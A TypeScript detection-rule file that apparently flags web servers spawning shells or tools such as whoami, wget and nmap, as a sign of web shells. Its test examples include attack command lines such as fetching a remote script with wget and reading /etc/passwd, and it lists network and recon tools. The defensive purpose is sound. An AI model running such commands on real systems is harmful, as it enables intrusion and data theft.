import type { Facts } from "#alert/facts.ts";
import type { Indicator } from "../../indicator.ts";
import { withoutVersion } from "../execution/calls.ts";
import { inContainer, onHost, ran } from "../execution/examples.ts";
import { downloaders, interpreters, netcats, reconPrograms, shells, webServers } from "../execution/programs.ts";
import { behind } from "../gates.ts";
import { isStart, parentIn } from "./served-programs.ts";

/** What web servers start that they should not. */

const otherTools = new Set([
  "chmod",
  "base64",
  "socat",
  "telnet",
  "ping",
  "nslookup",
  "dig",
  "crontab",
  "tar",
  "gcc",
  "ssh",
  "nmap",
]);

export const webServerSpawnsShell: Indicator = {
  id: "web-server-spawns-shell",
  behaviour: "is a shell that a web server started",
  meaning: "This is how a web shell or an exploited web application runs what a visitor sends.",
  technique: "T1505.003",
  tactic: "persistence",
  alsoTechniques: ["T1190", "T1059.004"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1505/003/",
  match: behind({ parents: webServers }, (facts) =>
    isStart(facts) && shells.has(facts.process.name ?? "") ? parentIn(facts, webServers) : null,
  ),
  examples: {
    found: [
      ran("sh -c id", { "proc.pname": "nginx", ...inContainer }),
      ran("bash -c cat /etc/passwd", { "proc.pname": "php-fpm8.2", ...onHost }),
      ran("sh", { "proc.pname": "apache2" }),
    ],
    ignored: [ran("nginx: worker process", { "proc.pname": "nginx" }), ran("sh -c id", { "proc.pname": "sshd" })],
  },
};

export const webServerSpawnsTool: Indicator = {
  id: "web-server-spawns-tool",
  behaviour: "is a tool for looking around or fetching files that a web server started",
  meaning: "Web servers do not ask who they are or fetch scripts: a visitor runs commands through the application.",
  technique: "T1505.003",
  tactic: "persistence",
  alsoTechniques: ["T1190", "T1059.004"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-sandbox_rules.yaml",
  match: behind({ parents: new Set([...webServers, ...shells]) }, (facts) => {
    const name = facts.process.name === null ? "" : withoutVersion(facts.process.name);
    const isTool =
      reconPrograms.has(name) ||
      downloaders.has(name) ||
      netcats.has(name) ||
      otherTools.has(name) ||
      (interpreters.has(name) && name !== "php" && name !== "java");
    return isStart(facts) && isTool ? (parentIn(facts, webServers) ?? shellOfWebServer(facts)) : null;
  }),
  examples: {
    found: [
      ran("whoami", { "proc.pname": "httpd", ...inContainer }),
      ran("wget http://203.0.113.9/s.sh", { "proc.pname": "nginx" }),
      ran("id", { "proc.pname": "sh", "proc.aname[2]": "php-fpm", ...inContainer }),
    ],
    ignored: [ran("php /var/www/cron.php", { "proc.pname": "php-fpm" }), ran("whoami", { "proc.pname": "bash" })],
  },
};

/** The tool's shell was started by the web server. */
function shellOfWebServer(facts: Facts): string | null {
  const [parent, grandparent] = facts.ancestors;
  if (parent === undefined || grandparent === undefined || !shells.has(parent)) return null;
  return webServers.has(withoutVersion(grandparent)) ? grandparent : null;
}
